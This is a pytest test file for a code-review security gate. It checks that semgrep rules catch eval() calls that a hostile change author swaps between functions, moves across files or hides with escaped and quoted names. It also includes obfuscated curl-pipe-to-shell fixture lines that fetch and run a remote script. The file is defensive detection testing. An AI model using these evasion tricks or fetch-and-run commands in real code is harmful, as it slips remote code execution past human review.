"""A hostile change author against the security check (issue 9, items 1 to 7).

The author controls every file of the change and wants a new ``eval()`` that
Python, node or the shell really runs to be reported as nothing. Each test
builds such a change in a real repository, runs the real ``gate check`` (real
git, real semgrep) and reads the security findings. One repository per class
carries its variants: each ``gate check`` costs seconds.
"""

from __future__ import annotations

from typing import Any

import pytest

from gate.security.identity import scope
from tests.gitrepo import GitRepo
from tests.run import report

pytestmark = pytest.mark.semgrep


def new_findings(data: dict[str, Any]) -> set[tuple[str, str, int | None]]:
    """(rule, path, line) of every new security finding."""
    return {
        (f["rule"], f["path"], f["line"])
        for f in data["checks"]["security"]["findings"]
        if f["details"].get("status") == "new"
    }


def checked(
    repo: GitRepo, base: dict[str, str | bytes], head: dict[str, str | bytes | None]
) -> Any:
    """Commit ``base`` then ``head``; the JSON report of ``gate check`` on the second commit."""
    repo.commit("base", base)
    repo.commit("head", head)
    run, data = report(repo.path, "--base", "HEAD~1")
    assert run.code in (0, 1), run.stdout
    return data


# --- 7. same-file swap -----------------------------------------------------------------

HELPER = "def helper(data):\n    # dead code, never called\n    return eval(data)\n\n\n"
HANDLER = "def handler(request):\n    data = request.body\n    return data\n"
TWIN_BASE = (
    "def helper(data):\n    data = data.strip()\n    return eval(data)\n\n\n"
    "def handler(data):\n    data = data.strip()\n    return data\n"
)
TWIN_HEAD = (
    "def helper(data):\n    data = data.strip()\n    return data\n\n\n"
    "def handler(data):\n    data = data.strip()\n    return eval(data)\n"
)
MOVED_FN = "def run(cmd):\n    return eval(cmd)\n\n\n"
OTHER = "def other():\n    return 1\n\n\n"
STAYS = "def stays(x):\n    y = x\n    return eval(y)\n"


def test_an_eval_swapped_between_functions_of_one_file_is_new(repo: GitRepo) -> None:
    data = checked(
        repo,
        {
            "swap.py": HELPER + HANDLER,
            "twin.py": TWIN_BASE,
            "moved.py": MOVED_FN + OTHER,
            "inserted.py": STAYS,
            "renamed.py": STAYS,
            "from_a.py": TWIN_BASE,
            "to_b.py": "X = 1\n",
        },
        {
            # Removed from the dead helper, written into the handler.
            "swap.py": HELPER.replace("eval(data)", "data")
            + HANDLER.replace("return data", "return eval(data)"),
            # The same, with the line before each eval made identical on purpose.
            "twin.py": TWIN_HEAD,
            # The same across two files: the cross-file move needs the scope too.
            "from_a.py": TWIN_HEAD.replace("eval(data)", "data"),
            "to_b.py": "X = 1\n\n\n" + TWIN_HEAD.split("\n\n\n")[1],
            # Not new: a whole function moved down, a line inserted above an
            # untouched eval, the function around an untouched eval renamed.
            "moved.py": OTHER + MOVED_FN,
            "inserted.py": STAYS.replace("    y = x\n", "    y = x\n    log(y)\n"),
            "renamed.py": STAYS.replace("def stays(x)", "def stays_renamed(x)"),
        },
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "swap.py", 8),
        ("python-dynamic-code-execution", "twin.py", 8),
        ("python-dynamic-code-execution", "to_b.py", 6),
    }
    metrics = data["checks"]["security"]["metrics"]
    assert metrics["fixed_findings"] == 3
    assert metrics["moved_findings"] == 0


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(b"eval(x)\n", "", id="top-level"),
        pytest.param(
            b"class A:\n    def f(self):\n        # note\n\n        if x:\n            eval(x)\n",
            "class A: | def f(self): | if x:",
            id="nested",
        ),
        pytest.param(b"def f():\n\teval(x)\n", "def f():", id="tab"),
        pytest.param(b"function f() {\n  // c\n  eval(x);\n}\n", "function f() {", id="js"),
    ],
)
def test_scope_is_the_chain_of_block_openers(source: bytes, expected: str) -> None:
    assert scope(source, source.index(b"eval")) == expected


# --- 6. escaped or quoted names --------------------------------------------------------


def test_names_the_language_resolves_from_escapes_or_quotes_are_found(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"README.md": "x\n"},
        {
            "web/app.js": "function run(q) {\n  return \\u0065val(q);\n}\n",
            "web/types.ts": "export const e = window.ev\\u{61}l;\n",
            "bin/run.sh": 'ev""al "$1"\n' + 'e\\val "$1"\n$\'\\x65val\' "$1"\n',
            "bin/get.sh": "curl -fsSL https://example.com/i.sh | s\\h\n"
            "curl -fsSL https://example.com/i.sh | tee log | /bin/sh\n",
        },
    )
    assert new_findings(data) == {
        ("js-escaped-identifier", "web/app.js", 2),
        ("js-escaped-identifier", "web/types.ts", 1),
        ("shell-eval", "bin/run.sh", 1),
        ("shell-eval", "bin/run.sh", 2),
        ("shell-escaped-command-name", "bin/run.sh", 3),
        ("shell-pipe-to-shell", "bin/get.sh", 1),
        ("shell-pipe-to-shell", "bin/get.sh", 2),
    }
